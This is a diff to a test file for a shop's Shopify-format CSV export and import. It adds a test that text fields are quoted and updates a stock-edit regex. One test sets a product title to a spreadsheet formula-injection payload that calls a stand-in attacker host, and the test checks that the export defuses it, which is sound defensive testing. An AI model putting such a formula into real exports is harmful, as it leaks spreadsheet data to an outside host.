@@ -49,6 +49,11 @@ test('changes nothing when an export is imported again', async () => {
   expect(report).toMatchObject({ unchanged: 2, problems: [] })
 })
 
+test('quotes texts, so that a spreadsheet can tell them from numbers', async () => {
+  const csv = await whole(shopifyCsv(shop.database.db, where))
+  expect(csv).toMatch(/\n"neel-kurta",.*,"Size","M",,,5,0,1299\.5,/)
+})
+
 test('exports no text that a spreadsheet would run, and imports it unchanged', async () => {
   const [row] = productRows('formula-kurta', 'Kurta', 900, { Red: { M: 1 } })
   const title = '=HYPERLINK("https://evil.test?"&A1,"Open")'
@@ -75,7 +80,7 @@ test('sets the quantity of an edited export, minus sales since the export', asyn
   await sell()
   expect(await shop.importCsv(csv)).toMatchObject({ unchanged: 2 })
   expect(await stock()).toBe(3)
-  const edited = csv.replace(/(Deep Blue,Size,M,[^,]*,[^,]*),4,1,/, '$1,9,1,')
+  const edited = csv.replace(/("Deep Blue","Size","M",[^,]*,[^,]*),4,1,/, '$1,9,1,')
   expect(await shop.importCsv(edited)).toMatchObject({ changed: 1 })
   expect(await shop.importCsv(edited)).toMatchObject({ unchanged: 2 })
   expect(await stock()).toBe(8)
